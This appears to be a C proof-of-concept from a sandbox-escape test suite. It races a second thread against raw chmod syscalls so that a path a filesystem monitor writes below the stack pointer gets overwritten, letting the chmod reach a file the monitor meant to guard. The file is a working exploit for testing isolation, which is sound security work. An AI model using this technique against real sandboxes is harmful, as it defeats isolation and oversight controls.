/* Overwriting, from another thread, a path the view wrote below the calling
 * thread's stack pointer (where a monitor may put a rewritten path for the
 * kernel to read). A probe chmod of VICTIM shows where such a string lands;
 * then a thread writes VICTIM over that place while the main thread chmods
 * VICTIM again and again from the same stack depth. The main thread makes
 * its calls inline (x86_64 syscall instruction) and calls no function while
 * the other thread writes: what lies below its stack pointer is unused.
 *
 *   below_sp VICTIM [TRIES]     TRIES chmods to 0600 (2000)
 *
 * chmod, not open: a view may open a file itself and hand the process the
 * fd, leaving no path in its memory.
 *
 * Natively nothing is written below the stack pointer; the first chmod
 * changes VICTIM.
 */
#include "escape.h"
#include <pthread.h>

#define BELOW (32 * 1024)
#define MAX_SPOTS 8

static const char *victim;
static char *spots[MAX_SPOTS];
static int nspots;
static volatile int go, stop, stopped;

static void *scribble(void *unused)
{
    (void)unused;
    size_t n = strlen(victim) + 1;
    while (!go && !stop)
        ;
    while (!stop)
        for (int i = 0; i < nspots; i++)
            memcpy(spots[i], victim, n);
    stopped = 1;
    return NULL;
}

/* zero the stack below the caller's frame */
static void __attribute__((noinline)) clear_below(void)
{
    volatile char area[BELOW];
    for (size_t i = 0; i < sizeof area; i++)
        area[i] = 0;
}

static inline __attribute__((always_inline)) long change(void)
{
    long ret;
    register long flags __asm__("r10") = 0;
    __asm__ volatile("syscall"
                     : "=a"(ret)
                     : "a"(SYS_fchmodat), "D"(AT_FDCWD), "S"(victim), "d"(0600), "r"(flags)
                     : "rcx", "r11", "memory");
    return ret;
}

static int __attribute__((noinline)) attack(int tries)
{
    char here;
    char *top = &here, *bottom = &here - BELOW + 512;
    size_t n = strlen(victim);
    pthread_t thread;
    if (pthread_create(&thread, NULL, scribble, NULL))
        fail("pthread_create");
    clear_below();
    long probe = change();
    /* no function call until the strings below are found (it would overwrite them) */
    for (char *p = bottom; p < top && nspots < MAX_SPOTS; p++) {
        if (p[0] != '/' || p[-1] != 0)
            continue;
        size_t len = 0;
        int same = 1;
        while (p + len < top && p[len]) {
            same &= len < n && p[len] == victim[len];
            len++;
        }
        if (len > n || (len == n && !same)) {  /* another absolute path: the view's */
            spots[nspots++] = p;
            p += len;
        }
    }
    go = 1;
    int done = probe == 0;
    for (int i = 1; i < tries; i++)
        done += change() == 0;
    stop = 1;
    while (!stopped)
        ;
    pthread_join(thread, NULL);
    printf("paths found below the stack pointer: %d\n", nspots);
    if (probe) {
        errno = -probe;
        fail("chmod");
    }
    return done;
}

int main(int argc, char **argv)
{
    if (argc < 2)
        unsupported("usage: below_sp VICTIM [TRIES]");
    victim = argv[1];
    int tries = argc > 2 ? atoi(argv[2]) : 2000;
    int done = attack(tries);
    printf("chmods: %d of %d\n", done, tries);
    return done == tries ? 0 : 1;
}
